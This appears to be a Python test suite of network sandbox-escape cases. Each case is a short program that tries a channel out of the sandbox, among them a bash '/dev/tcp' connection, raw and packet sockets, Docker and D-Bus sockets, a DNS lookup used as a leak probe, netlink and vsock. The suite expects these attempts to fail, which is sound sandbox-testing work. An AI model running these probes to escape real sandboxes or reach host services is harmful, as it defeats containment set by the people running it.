"""Anything that leaves the sandbox as a packet or arrives at somebody else's socket."""

from functools import partial

from . import program

case = partial(program, "network")
SAFE = "ok runtime_error denied timeout"

CASES = (
    case(
        "ipv4",
        "a TCP connection to a port of the host",
        SAFE,
        """
        import socket
        socket.create_connection(("127.0.0.1", @PORT@), timeout=1).sendall(b"hello")
        print("ESCAPED to the host")
        """,
    ),
    case(
        "ipv4_other_names",
        "the same port under other names of this machine",
        SAFE,
        """
        import socket
        for name in ("0.0.0.0", "127.1.2.3", "localhost", socket.gethostname(), "2130706433"):
            try:
                socket.create_connection((name, @PORT@), timeout=0.3)
                print("ESCAPED to", name)
            except OSError as error:
                print(name, error)
        """,
    ),
    case(
        "ipv6",
        "IPv6, also with the IPv4 address inside",
        SAFE,
        """
        import socket
        for address in ("::1", "::ffff:127.0.0.1", "::"):
            try:
                socket.socket(socket.AF_INET6).connect((address, @PORT@))
                print("ESCAPED to", address)
            except OSError as error:
                print(address, error)
        """,
    ),
    case(
        "fast_open",
        "data with the first packet: a connection without a connect call",
        SAFE,
        """
        import socket
        with socket.socket() as link:
            link.sendto(b"hello", socket.MSG_FASTOPEN, ("127.0.0.1", @PORT@))
            print("ESCAPED without connect")
        """,
    ),
    case(
        "multipath_tcp",
        "MPTCP and SMC: other protocol numbers that reach a TCP port",
        SAFE,
        """
        import socket
        for family, protocol in ((socket.AF_INET, 262), (43, 0)):
            try:
                socket.socket(family, socket.SOCK_STREAM, protocol).connect(("127.0.0.1", @PORT@))
                print("ESCAPED by", family, protocol)
            except OSError as error:
                print(error)
        """,
    ),
    case(
        "connection_by_shell",
        "another program connects",
        SAFE,
        """
        import subprocess
        done = subprocess.run(["bash", "-c", "echo hello > /dev/tcp/127.0.0.1/@PORT@"])
        print("ESCAPED" if done.returncode == 0 else "refused", done)
        """,
    ),
    case(
        "udp",
        "a datagram that would leave the machine (to an address kept for examples)",
        SAFE,
        """
        import socket
        link = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        for address in ("203.0.113.1", "198.51.100.1", "224.0.0.251"):
            try:
                link.sendto(b"hello", (address, 9))
                print("ESCAPED: sent to", address)
            except OSError as error:
                print(address, error)
        """,
    ),
    case(
        "raw_socket",
        "forged packets",
        SAFE,
        """
        import socket
        socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
        print("ESCAPED with a raw socket")
        """,
    ),
    case(
        "ping_socket",
        "ICMP without privilege",
        SAFE,
        """
        import socket
        link = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
        link.sendto(bytes([8, 0, 0, 0, 0, 0, 0, 1]), ("203.0.113.1", 0))
        print("ESCAPED with a ping")
        """,
    ),
    case(
        "packet_socket",
        "listens to every packet",
        SAFE,
        """
        import socket
        socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        print("ESCAPED with a packet socket")
        """,
    ),
    case(
        "unix_socket",
        "a socket of the host in the file system",
        SAFE,
        """
        import socket
        link = socket.socket(socket.AF_UNIX)
        link.connect("@UNIX_SOCKET@")
        link.sendall(b"hello")
        print("ESCAPED to a unix socket")
        """,
    ),
    case(
        "unix_socket_by_link",
        "the same socket through a link in the scratch folder",
        SAFE,
        """
        import os, socket
        os.symlink("@UNIX_SOCKET@", "door")
        socket.socket(socket.AF_UNIX).connect("door")
        print("ESCAPED to a unix socket")
        """,
    ),
    case(
        "abstract_socket",
        "a socket of the host without a file",
        SAFE,
        r"""
        import socket
        link = socket.socket(socket.AF_UNIX)
        link.connect("\0@ABSTRACT@")
        link.sendall(b"hello")
        print("ESCAPED to an abstract socket")
        """,
    ),
    case(
        "system_services",
        "well-known sockets: containers, bus, log, name cache",
        SAFE,
        """
        import socket
        for path in ("/var/run/docker.sock", "/run/containerd/containerd.sock", "/run/dbus/system_bus_socket",
                     "/run/systemd/notify", "/dev/log", "/run/nscd/socket", "/run/snapd.socket"):
            for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
                try:
                    socket.socket(socket.AF_UNIX, kind).connect(path)
                    print("ESCAPED to", path)
                except OSError as error:
                    print(path, error)
        """,
    ),
    case(
        "name_lookup",
        "a DNS question carries data out even where nothing else does",
        SAFE,
        """
        import socket
        found = socket.getaddrinfo("secret.example.com", 80)
        print("ESCAPED with", found)
        """,
    ),
    case(
        "netlink_sockets",
        "asks the kernel for every listening TCP socket",
        SAFE,
        """
        import socket, struct
        link = socket.socket(socket.AF_NETLINK, socket.SOCK_DGRAM, 4)
        link.settimeout(1)
        ask = struct.pack("=BBBBI48x", socket.AF_INET, socket.IPPROTO_TCP, 0, 0, 1 << 10)
        link.send(struct.pack("=IHHII", 16 + len(ask), 20, 0x301, 1, 0) + ask)
        if struct.pack(">H", @PORT@) in link.recv(1 << 16):
            print("ESCAPED: sees the host's port @PORT@")
        """,
    ),
    case(
        "connection_table",
        "the host's connections in /proc",
        SAFE,
        """
        for name in ("tcp", "tcp6", "unix"):
            try:
                text = open("/proc/net/" + name).read()
                if ":%04X " % @PORT@ in text or "@ABSTRACT@" in text:
                    print("ESCAPED: the host's sockets are in", name)
            except OSError as error:
                print(error)
        """,
    ),
    case(
        "interfaces",
        "addresses of the machine beside the loop",
        SAFE,
        """
        import fcntl, socket
        link = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        for _, name in socket.if_nameindex():
            try:
                address = fcntl.ioctl(link, 0x8915, name.encode().ljust(256, bytes(1)))[20:24]
                print("own loop" if name == "lo" else "ESCAPED: interface", name, list(address))
            except OSError as error:
                print(name, error)
        """,
    ),
    case(
        "vsock",
        "the line between a virtual machine and its host",
        SAFE,
        """
        import socket
        link = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
        link.bind((socket.VMADDR_CID_ANY, socket.VMADDR_PORT_ANY))
        print("ESCAPED with", link.getsockname())
        """,
    ),
    case(
        "kernel_crypto",
        "AF_ALG: kernel code that no program needs",
        SAFE,
        """
        import socket
        link = socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET)
        link.bind(("hash", "sha256"))
        print("ESCAPED with a kernel hash")
        """,
    ),
    case(
        "inherited_sockets",
        "speaks on every connection that it was born with",
        SAFE,
        """
        import os, socket, stat
        for fd in range(4, 256):
            try:
                if stat.S_ISSOCK(os.fstat(fd).st_mode):
                    peer = socket.socket(fileno=fd).getpeername()
                    print("ESCAPED: descriptor", fd, "leads to", peer)
            except OSError:
                pass
        """,
    ),
    case(
        "pair_of_own_sockets",
        "harmless: talks to itself, and may",
        "ok",
        """
        import socket
        left, right = socket.socketpair()
        left.sendall(b"fine")
        print(right.recv(4).decode())
        """,
    ),
)
